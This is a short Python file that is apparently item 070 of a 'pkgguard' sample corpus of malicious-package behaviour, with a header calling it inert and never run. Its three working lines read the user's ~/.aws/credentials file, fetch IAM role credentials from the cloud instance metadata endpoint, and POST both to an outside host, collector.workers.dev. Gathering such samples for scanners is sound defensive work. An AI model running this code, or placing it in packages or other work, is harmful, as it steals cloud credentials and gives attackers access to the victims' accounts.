# pkgguard corpus 070 (credentials), modelled on [taxonomy]; inert, never run.
import os
import requests

creds = open(os.path.expanduser("~/.aws/credentials")).read()
role = requests.get("http://169.254.169.254/latest/meta-data/iam/security-credentials/", timeout=1).text
requests.post("https://collector.workers.dev/aws", json={"file": creds, "role": role})
